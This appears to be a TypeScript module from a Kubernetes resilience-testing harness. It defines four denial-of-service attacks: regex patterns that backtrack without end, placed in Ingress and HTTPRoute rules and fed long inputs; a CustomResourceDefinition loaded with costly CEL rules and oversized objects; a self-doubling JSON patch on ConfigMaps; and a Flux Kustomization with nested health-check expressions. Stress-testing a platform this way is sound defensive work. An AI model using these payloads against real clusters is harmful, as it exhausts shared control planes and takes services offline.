import {
  type Attack,
  type AttackSetting,
  ingress,
  ingressPath,
  pause,
  routePath,
} from '../attack.ts';

/** Patterns that backtrack without end in engines that backtrack. */
const patterns = [
  '/files/([a-z0-9]+-?)+[a-f]{32}$',
  '/(a+)+$',
  '/(a|aa)+b$',
  '/(?=(a+)+$)a',
  '/(?i)(x+x+)+y',
  '/([a-z]*)*[0-9]{20}$',
] as const;

/** Routes whose patterns hold an engine for ever, and requests that make them do it. */
export const evilPatterns: Attack = {
  name: 'patterns of routes',
  async run(setting) {
    const { world, namespace, random, signal } = setting;
    const host = `${namespace}.test`;
    while (!signal.aborted) {
      const path = patterns[Math.floor(random() * patterns.length)]!;
      await world.apply(
        `${ingressPath(namespace)}/pattern`,
        ingress(namespace, 'pattern', { host, path: `/~${path}` }),
      );
      await world.apply(`${routePath(namespace)}/header`, headerRoute(namespace, host));
      await pause(300, signal);
      const text = 'a'.repeat(30 + Math.floor(random() * 4_000));
      await Promise.all([
        world.ask(`/files/${text}!`, { host }, { timeoutMs: 5_000 }),
        world.ask(`/${text}!`, { host, 'x-evil': `${text}!` }, { timeoutMs: 5_000 }),
      ]);
    }
  },
};

function headerRoute(namespace: string, host: string): object {
  return {
    apiVersion: 'gateway.networking.k8s.io/v1',
    kind: 'HTTPRoute',
    metadata: { name: 'header', namespace, annotations: { 'konghq.com/protocols': 'http' } },
    spec: {
      parentRefs: [{ name: 'own' }],
      hostnames: [host],
      rules: [
        {
          matches: [
            { headers: [{ type: 'RegularExpression', name: 'x-evil', value: '^(a+)+b{20}$' }] },
          ],
          backendRefs: [{ name: 'web', port: 80 }],
        },
      ],
    },
  };
}

/** A definition with rules that cost what their author likes, and objects that make them cost it. */
export const celBombs: Attack = {
  name: 'expressions of definitions',
  async run({ world, namespace, signal }) {
    const plural = `bombs${namespace.replace(/\D/g, '')}`;
    const group = `${namespace}.example`;
    const rules = Array.from({ length: 200 }, (_each, index) => ({
      rule: `self.text.matches('^(a|b)*${index}$') || size(self.text) >= 0`,
      message: 'no',
    }));
    await world.api('POST', '/apis/apiextensions.k8s.io/v1/customresourcedefinitions', {
      apiVersion: 'apiextensions.k8s.io/v1',
      kind: 'CustomResourceDefinition',
      metadata: { name: `${plural}.${group}` },
      spec: {
        group,
        scope: 'Namespaced',
        names: { plural, singular: plural, kind: 'Bomb', listKind: 'BombList' },
        versions: [{ name: 'v1', served: true, storage: true, schema: bombSchema(rules) }],
      },
    });
    const path = `/apis/${group}/v1/namespaces/${namespace}/${plural}`;
    for (let round = 0; !signal.aborted; round += 1) {
      await pause(500, signal);
      await world.api('POST', path, {
        apiVersion: `${group}/v1`,
        kind: 'Bomb',
        metadata: { name: `bomb-${round}`, namespace },
        spec: {
          text: 'ab'.repeat(450_000),
          items: Array.from({ length: 10_000 }, (_each, index) => `item-${index}`),
        },
      });
    }
  },
};

function bombSchema(rules: readonly object[]): object {
  return {
    openAPIV3Schema: {
      type: 'object',
      properties: {
        spec: {
          type: 'object',
          'x-kubernetes-validations': rules,
          properties: {
            text: { type: 'string', maxLength: 2_000_000 },
            items: {
              type: 'array',
              maxItems: 20_000,
              items: { type: 'string', maxLength: 100, pattern: '^([a-z0-9]+-?)+[a-f0-9]*$' },
            },
          },
        },
      },
    },
  };
}

/** A patch of a few hundred bytes that doubles an object forty times. */
export const patchBombs: Attack = {
  name: 'patches that double themselves',
  async run({ world, namespace, signal }) {
    const path = `/api/v1/namespaces/${namespace}/configmaps`;
    const type = { headers: { 'content-type': 'application/json-patch+json' } };
    const operations: object[] = [{ op: 'add', path: '/data', value: { a: 'x'.repeat(1_000) } }];
    for (let step = 0; step < 42; step += 1)
      operations.push({ op: 'copy', from: '/data', path: `/data/n${step}` });
    for (let round = 0; !signal.aborted; round += 1) {
      const name = `patched-${round % 5}`;
      await world.api('POST', path, {
        apiVersion: 'v1',
        kind: 'ConfigMap',
        metadata: { name, namespace },
      });
      await world.api('PATCH', `${path}/${name}`, JSON.stringify(operations), type);
      await pause(500, signal);
    }
  },
};

/** A Kustomization whose health checks and patches never come to an end. */
export const endlessChecks: Attack = {
  name: 'expressions of health checks',
  async run(setting) {
    const { world, namespace, signal } = setting;
    const path = `/apis/kustomize.toolkit.fluxcd.io/v1/namespaces/${namespace}/kustomizations/endless`;
    const nested = 'data.items.all(a, data.items.all(b, data.items.all(c, true)))';
    for (let round = 0; !signal.aborted; round += 1) {
      await world.apply(path, kustomization(setting, nested, round));
      await pause(2_000, signal);
    }
  },
};

function kustomization({ namespace }: AttackSetting, current: string, round: number): object {
  return {
    apiVersion: 'kustomize.toolkit.fluxcd.io/v1',
    kind: 'Kustomization',
    metadata: { name: 'endless', namespace, annotations: { round: String(round) } },
    spec: {
      interval: '1s',
      prune: true,
      wait: true,
      sourceRef: { kind: 'GitRepository', name: 'project', namespace: 'waygate-system' },
      targetNamespace: namespace,
      healthCheckExprs: [{ apiVersion: 'v1', kind: 'ConfigMap', current }],
    },
  };
}
